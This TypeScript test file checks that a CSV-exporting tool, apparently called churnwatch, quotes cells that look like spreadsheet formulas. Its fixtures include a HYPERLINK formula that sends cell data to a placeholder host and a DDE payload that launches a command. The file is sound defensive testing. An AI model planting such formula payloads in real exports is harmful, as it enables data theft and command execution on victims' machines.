/**
 * Promise 8, no formula injection: every text cell churnwatch writes to a CSV that
 * starts with =, +, -, @, tab or CR (or NUL, or a full-width ＝＋－＠) is prefixed with
 * a single quote, as OWASP advises; phone columns are validated instead and never
 * altered; numbers churnwatch formats itself stay numbers.
 */
import { readFileSync, readdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterEach, describe, expect, it } from 'vitest';
import { neutraliseFormula } from '../../src/output/csv.js';
import { World, cleanup, type Row } from '../helpers/world.js';
import { AS_OF } from './helpers.js';

const dirs: string[] = [];
afterEach(() => {
  while (dirs.length) cleanup(dirs.pop()!);
});

const TRIGGERS = ['=', '+', '-', '@', '\t', '\r', '\0', '＝', '＋', '－', '＠'];
const STARTS_LIKE_FORMULA = /^[=+\-@\t\r\0\uff1d\uff0b\uff0d\uff20]/;
const NUMBER = /^-?\d+(\.\d+)?$/;
const PHONE_COLUMNS = new Set(['msisdn']);

/**
 * Every cell of every CSV in a folder: a cell that starts like a formula must be a
 * phone number (digits after +) or a number churnwatch formatted; anything else is
 * a finding.
 */
function formulaCells(dir: string): string[] {
  const found: string[] = [];
  for (const f of readdirSync(dir).filter((x) => x.endsWith('.csv'))) {
    const rows = parse(readFileSync(join(dir, f)), { columns: true }) as Row[];
    for (const r of rows) {
      for (const [col, v] of Object.entries(r)) {
        if (!STARTS_LIKE_FORMULA.test(v)) continue;
        if (PHONE_COLUMNS.has(col) && /^\+\d+$/.test(v)) continue;
        if (NUMBER.test(v)) continue;
        found.push(`${f}:${col}=${JSON.stringify(v)}`);
      }
    }
  }
  return found;
}

describe('formula injection', () => {
  it('when extract text starts like a formula then every such cell in tasks and rejects is prefixed with a quote, and phones are untouched', async () => {
    const w = new World(AS_OF);
    const payloads = TRIGGERS.map((t) => `${t}HYPERLINK("http://x.example/?"&A1,"click")`);
    payloads.forEach((p, k) => {
      const id = `F${k}`;
      w.sub(id, { status: 'suspended_arrears', name: `${p}`, region: p, manager_id: p }).bills(id, ['80.00', '80.00', '80.00', '80.00']);
    });
    w.sub('=1+2', { status: 'suspended_arrears', msisdn: '+8613912345678' }).bills('=1+2', ['80.00', '80.00', '80.00', '80.00']);
    w.sub('@SUM', { status: 'suspended_arrears', msisdn: '+12025550123' }).bills('@SUM', ['80.00', '80.00', '80.00', '80.00']);
    for (let k = 0; k < 900; k++) w.bill('FILLER', w.month(0), '0.00');
    for (const p of ["=cmd|' /C calc'!A0", '+1+1', '-2+3', '@SUM(A1)', '\t=1', '\r=1']) w.bill('F0', w.month(0), p);
    const dir = w.write();
    dirs.push(dir);
    const r = await w.run([], dir);
    expect(r.stderr).toBe('');
    expect(r.code).toBe(0);

    expect(formulaCells(r.published)).toEqual([]);
    const tasks = [...r.tasks.high!, ...r.tasks.mid!, ...r.tasks.mass!];
    payloads.forEach((p, k) => {
      const t = tasks.find((x) => x.subscriber_id === `F${k}`)!;
      // Ingest trims text, so a leading tab or CR never reaches the task file; the rest is quoted.
      const kept = p.trim() === p ? p : p.trim();
      for (const col of ['name', 'region', 'manager_id'] as const) expect([k, col, t[col]]).toEqual([k, col, neutraliseFormula(kept)]);
    });
    expect(tasks.find((x) => x.subscriber_id === "'=1+2")!.msisdn).toBe('+8613912345678');
    expect(tasks.find((x) => x.subscriber_id === "'@SUM")!.msisdn).toBe('+12025550123');
    const rejects = parse(readFileSync(join(r.published, 'rejects.csv')), { columns: true }) as Row[];
    expect(rejects.map((x) => x.raw_value).sort()).toEqual(["'\t=1", "'\r=1", "'+1+1", "'-2+3", "'=cmd|' /C calc'!A0", "'@SUM(A1)"].sort());
  });

  it("when the rule pack's texts start like a formula then action, channel, assignee and reason text are quoted too", async () => {
    const w = new World(AS_OF);
    w.sub('U1', { status: 'suspended_arrears' }).bills('U1', ['80.00', '80.00', '80.00', '80.00']);
    const dir = w.write();
    dirs.push(dir);
    const pack = readFileSync('rules/default.yaml', 'utf8')
      .replace('high: customer_manager', 'high: "@manager"')
      .replace(/(- id: arrears_suspended[\s\S]*?reason: )"[^"]*"/, '$1"=1+1 suspended"')
      .replace(/(- id: arrears_suspended[\s\S]*?action: ).*/, '$1"-restore service"')
      .replace(/(- id: arrears_suspended[\s\S]*?channel: ).*/, '$1"+call"');
    writeFileSync(join(dir, 'pack.yaml'), pack);
    const r = await w.run(['--rules', join(dir, 'pack.yaml')], dir);
    expect(r.stderr).toBe('');
    expect(r.code).toBe(0);
    const t = r.tasks.high!.find((x) => x.subscriber_id === 'U1')!;
    // The channel column is the file's channel (call, sms, visit), never the pack's text.
    expect([t.assignee, t.reason_text, t.action, t.channel]).toEqual(["'@manager", "'=1+1 suspended", "'-restore service", 'call']);
    expect(formulaCells(r.published)).toEqual([]);
  });

  it('when credits make a value negative then the number stays a number', async () => {
    const w = new World(AS_OF);
    w.sub('NEG', { status: 'suspended_arrears' }).bills('NEG', ['-30.00', '-30.00', '-30.00', '-30.00']);
    const dir = w.write();
    dirs.push(dir);
    const r = await w.run([], dir);
    expect(r.code).toBe(0);
    expect(r.tasks.mass!.find((x) => x.subscriber_id === 'NEG')!.value).toBe('-30.00');
    expect(r.scores.get('NEG')!.value).toBe('-30.00');
  });
});
